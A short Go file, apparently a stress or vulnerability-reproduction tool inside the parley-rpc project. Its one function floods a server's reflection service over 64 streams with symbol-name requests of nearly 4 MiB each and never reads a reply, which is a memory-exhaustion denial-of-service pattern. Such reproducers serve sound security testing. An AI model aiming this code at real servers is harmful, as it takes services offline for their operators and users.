package main

import (
	"context"
	"strings"
	"sync"

	"google.golang.org/protobuf/encoding/protowire"

	"github.com/parley-rpc/parley/internal/frame"
	"github.com/parley-rpc/parley/rpc/reflection"
	"github.com/parley-rpc/parley/transport"
)

// fileContainingSymbol is the field of a ServerReflectionRequest with the name
// of the symbol.
const fileContainingSymbol protowire.Number = 4

// askLong asks the server's reflection, on many streams, for a name of nearly 4
// MiB, and reads no response. Where the name is quoted it grows to four times
// that.
func askLong(ctx context.Context, addr string, n *tally) error {
	s, err := session(ctx, addr)
	if err != nil {
		return err
	}
	defer s.Close(transport.CloseAbnormal, "") //nolint:errcheck // nothing to lose
	const streams = 64
	question := protowire.AppendTag(nil, fileContainingSymbol, protowire.BytesType)
	question = protowire.AppendString(question, strings.Repeat("\x01", almostAll-64))
	var all sync.WaitGroup
	for range streams {
		all.Go(func() {
			st, err := s.Open(ctx, frame.AppendBytesField(nil, 1, reflection.ServiceName+"/ServerReflectionInfo"))
			if err == nil && st.Send(ctx, question, transport.SendOptions{}) == nil {
				n.units.Add(1)
			}
		})
	}
	all.Wait()
	return untilOver(ctx, s)
}
